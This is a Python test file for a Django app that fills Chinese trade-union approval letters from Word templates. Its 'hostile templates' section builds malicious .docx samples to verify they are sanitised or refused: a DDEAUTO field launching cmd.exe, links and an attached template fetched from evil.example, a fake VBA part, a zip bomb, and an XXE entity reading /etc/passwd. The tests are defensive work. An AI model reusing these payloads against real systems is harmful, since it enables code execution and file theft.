"""Letters: what stands in them, whose template holds, and what is left of one that was made to harm."""

import datetime as dt
import io
import zipfile
from collections.abc import Iterator
from typing import Any

import pytest
from django.db import transaction
from docx import Document
from docx.opc.constants import RELATIONSHIP_TYPE as KIND
from docx.oxml import OxmlElement
from docx.oxml.ns import qn

from gonghui.areas.unionbuilding import actions
from gonghui.areas.unionbuilding.models import LetterTemplate, Paper, Prospect
from gonghui.areas.unionbuilding.queries import template_of
from gonghui.areas.unionbuilding.rules.founding import PaperKind
from gonghui.areas.unionbuilding.rules.papers import NAMES, letters, unknown
from gonghui.areas.unionbuilding.tests.founding import PREPARED, WHY, agreed, led, prepared
from gonghui.core.actions.action import NotAllowed, Refused
from gonghui.core.actions.door import acting
from gonghui.core.exchange.documents import BIGGEST, filled, taken
from gonghui.core.files.actions import content_of
from gonghui.kit.dates import today
from tests.cast import SYSTEM, Cast, found_cast

pytestmark = pytest.mark.django_db
SINCE = dt.date(2026, 1, 1)
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@pytest.fixture
def cast() -> Iterator[Cast]:
    found = found_cast()
    with acting(SYSTEM):
        yield found


def document(*lines: str) -> bytes:
    """A Word document with these paragraphs."""
    made = Document()
    for line in lines:
        made.add_paragraph(line)
    return saved(made)


def saved(made: Document) -> bytes:  # type: ignore[valid-type]
    target = io.BytesIO()
    made.save(target)  # type: ignore[attr-defined]
    return target.getvalue()


def text_of(content: bytes) -> str:
    """Everything that a document says."""
    made = Document(io.BytesIO(content))
    cells = [cell.text for table in made.tables for row in table.rows for cell in row.cells]
    heads = [one.text for section in made.sections for one in section.header.paragraphs]
    return "\n".join([one.text for one in made.paragraphs] + cells + heads)


def letter(kind: str) -> str:
    """What the newest letter of a kind says."""
    paper = Paper.objects.unscoped(WHY).filter(kind=kind).latest("pk")
    assert paper.file is not None
    return text_of(content_of(paper.file))


def test_the_approvals_say_who_what_and_when(cast: Cast) -> None:
    led(agreed(cast), 4)
    said = letter("preparation")
    assert "关于同意北京博闻教育咨询有限公司筹建工会的批复" in said
    assert "东华门工发〔2026〕3号" in said
    assert "由刘敏任组长，王芳、赵强为成员" in said
    assert "2026年5月6日" in said
    said = letter("result")
    assert "2026年6月3日召开的会议应到60人，实到50人" in said
    assert "刘敏、赵强、王芳、孙浩、周婷组成，刘敏任主席，赵强任副主席" in said
    assert "钱进" not in said


def test_a_request_is_drawn_up_before_there_is_a_plan_with_lines_to_fill_in(cast: Cast) -> None:
    prospect = agreed(cast)
    actions.draw_up_paper(prospect, actor=cast.actor("street_officer"), kind="request")
    said = letter("request")
    assert "关于建立北京博闻教育咨询有限公司工会的请示" in said
    assert "现有职工142人，其中女职工＿＿＿＿人" in said
    with pytest.raises(Refused, match="还不能生成“选举结果批复”"):
        actions.draw_up_paper(prospect, actor=SYSTEM, kind="result")


def test_the_nearest_federation_lends_its_template_from_its_day_on(cast: Cast) -> None:
    given: dict[str, Any] = {"kind": "preparation", "since": SINCE}
    actions.set_template(cast.district, actor=SYSTEM, content=document("区里的：{{单位名称}}"), **given)
    assert wording(cast) == "区里的：北京博闻教育咨询有限公司"
    own = actions.set_template(cast.street, actor=SYSTEM, content=document("街道的：{{工会名称}}"), **given)
    assert wording(cast) == "街道的：北京博闻教育咨询有限公司工会"
    actions.end_template(own, actor=SYSTEM, on=PREPARED)
    assert wording(cast) == "区里的：北京博闻教育咨询有限公司"
    assert template_of("preparation", cast.street, PREPARED - dt.timedelta(days=1)) == own
    assert template_of("preparation", cast.street, SINCE - dt.timedelta(days=1)) is None


def wording(cast: Cast) -> str:
    """The approval of a preparation, drawn up and taken back."""
    with transaction.atomic():
        prospect = agreed(cast)
        prepared(prospect)
        said = letter("preparation")
        transaction.set_rollback(True)
    return said.strip()


def test_only_whoever_runs_a_federation_sets_its_template(cast: Cast) -> None:
    for name in ("outsider", "enterprise_chair", "district_chair"):
        with pytest.raises(NotAllowed), cast.act(name) as actor:
            actions.set_template(cast.street, actor=actor, kind="notice", content=document("x"), since=SINCE)
    with pytest.raises(Refused, match="由区、街道或系统工会设置"):
        actions.set_template(cast.own, actor=SYSTEM, kind="notice", content=document("x"), since=SINCE)


def test_a_name_that_means_nothing_is_told(cast: Cast) -> None:
    with pytest.raises(Refused, match="认不出的栏目：公司名"):
        actions.set_template(cast.street, actor=SYSTEM, kind="notice", content=document("{{公司名}}"), since=SINCE)
    assert not LetterTemplate.objects.unscoped(WHY).exists()


def test_every_shipped_letter_uses_known_names_only() -> None:
    with acting(SYSTEM):
        for kind in PaperKind.values:
            assert unknown(taken(actions.shipped(kind)).names) == []
        assert set(letters()) == set(PaperKind.values)
        assert len(set(NAMES)) == len(NAMES)


# -- filling ----------------------------------------------------------------------------------------------------


def test_a_name_that_word_has_broken_into_pieces_is_found_in_tables_and_heads_too() -> None:
    made = Document()
    paragraph = made.add_paragraph("致")
    for piece in ("{", "{单位", "名称 }", "}：", "{{今天}}"):
        paragraph.add_run(piece).bold = piece == "{"
    made.add_table(1, 1).cell(0, 0).text = "{{单位名称}}"
    made.sections[0].header.paragraphs[0].text = "{{文号}} {{单位名称}}"
    said = text_of(filled(saved(made), {"单位名称": "甲<b>&乙\x07{{今天}}", "今天": "今日"}))
    assert said.splitlines() == ["致甲<b>&乙{{今天}}：今日", "甲<b>&乙{{今天}}", "＿＿＿＿ 甲<b>&乙{{今天}}"]


# -- hostile templates ------------------------------------------------------------------------------------------


def harmful() -> bytes:
    """A template with a link, a picture and a template from outside, a field that runs a program, an object and a document inside."""
    made = Document()
    made.add_paragraph("{{单位名称}}")
    paragraph = made.add_paragraph()
    outside = made.part.relate_to("http://evil.example/x", KIND.HYPERLINK, is_external=True)
    link = OxmlElement("w:hyperlink")
    link.set(qn("r:id"), outside)
    run = OxmlElement("w:r")
    text = OxmlElement("w:t")
    text.text = "留下的字"
    run.append(text)
    link.append(run)
    paragraph._p.append(link)
    field = OxmlElement("w:instrText")
    field.text = ' DDEAUTO c:\\\\windows\\\\cmd.exe "/c calc" '
    paragraph.add_run()._r.append(field)
    image = OxmlElement("w:pict")
    image.append(OxmlElement("w:object"))
    image.set("src", "http://evil.example/pixel.png")
    paragraph.add_run()._r.append(image)
    settings = made.part.part_related_by(KIND.SETTINGS)
    settings.relate_to("http://evil.example/t.dotm", f"{OFFICE}/attachedTemplate", is_external=True)
    attached = OxmlElement("w:attachedTemplate")
    attached.set(qn("r:id"), next(iter(settings.rels)))
    settings.element.append(attached)
    return with_part(saved(made), "word/vbaProject.bin", b"PAYLOAD")


def with_part(content: bytes, name: str, body: bytes) -> bytes:
    """The same package with one more part that the document is related to."""
    target = io.BytesIO()
    relation = f'<Relationship Id="rIdX" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="{name[5:]}"/>'
    kind = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(target, "w") as made:
        for entry in source.infolist():
            text = source.read(entry)
            if entry.filename == "word/_rels/document.xml.rels":
                text = text.replace(b"</Relationships>", relation.encode() + b"</Relationships>")
            if entry.filename == "[Content_Types].xml":
                text = text.replace(b"<Default ", kind.encode() + b"<Default ", 1)
            made.writestr(entry, text)
        made.writestr(name, body)
    return target.getvalue()


def test_nothing_that_acts_or_leads_outside_is_left_and_the_words_stay() -> None:
    before, after = harmful(), taken(harmful()).content
    assert b"evil.example" in everything(before)
    assert b"DDEAUTO" in everything(before)
    left = everything(after)
    for trace in (b"evil.example", b"DDEAUTO", b"PAYLOAD", b"External", b"attachedTemplate", b"w:object", b"hyperlink r:id"):
        assert trace not in left, trace
    assert not any("vba" in name or "docProps" in name for name in zipfile.ZipFile(io.BytesIO(after)).namelist())
    assert "留下的字" in text_of(after)
    assert taken(after).names == ["单位名称"]


def everything(content: bytes) -> bytes:
    """All parts of a package one after another."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return b"\n".join(archive.read(name) for name in archive.namelist())


def bomb() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("word/document.xml", b" " * 500_000_000)
    return target.getvalue()


def entities() -> bytes:
    """A document whose text unfolds a thousandfold, or reads a file of the server's."""
    target, source = io.BytesIO(), io.BytesIO(document("x"))
    declared = '<!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    with zipfile.ZipFile(source) as former, zipfile.ZipFile(target, "w") as made:
        for entry in former.infolist():
            text = former.read(entry)
            if entry.filename == "word/document.xml":
                text = text.replace(b"<w:document ", declared.encode() + b"<w:document ", 1).replace(b">x<", b">&a;<")
            made.writestr(entry, text)
    return target.getvalue()


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"", "不是 Word 文档"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "另存为 .docx"),
        (b"PK\x03\x04" + b"\0" * 50, "打不开"),
        (b"PK\x03\x04" + b"x" * BIGGEST, "不能超过 5 MB"),
        (bomb(), "大得不正常"),
        (document("x").replace(b"[Content_Types].xml", b"[Content_Typeq].xml"), "打不开"),
    ],
)
def test_what_is_no_template_is_refused_in_words(content: bytes, words: str) -> None:
    with acting(SYSTEM), pytest.raises(Refused, match=words):
        taken(content)


def test_a_file_of_the_server_is_not_read_into_a_letter() -> None:
    with acting(SYSTEM):
        assert b"root:" not in everything(taken(entities()).content)


def test_a_document_with_macros_is_refused() -> None:
    content = document("x")
    plain, macro = b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml"
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as former, zipfile.ZipFile(target, "w") as made:
        for entry in former.infolist():
            text = former.read(entry).replace(b"openxmlformats-officedocument." + plain, macro)
            made.writestr(entry, text)
    with acting(SYSTEM), pytest.raises(Refused, match="带有宏"):
        taken(target.getvalue())


def test_a_letter_is_kept_with_its_prospect_and_given_out_at_the_files_address_only(cast: Cast) -> None:
    prospect = agreed(cast)
    prepared(prospect)
    paper = Paper.objects.unscoped(WHY).get()
    assert paper.file is not None
    assert (paper.file.organisation, paper.file.permission, paper.file.kept_until) == (cast.street, "unionbuilding.view", None)
    assert paper.prospect == Prospect.objects.unscoped(WHY).get(pk=prospect.pk)
    with cast.act("outsider") as actor:
        assert not Paper.objects.visible_to(actor).exists()
    assert paper.drawn_on <= today()
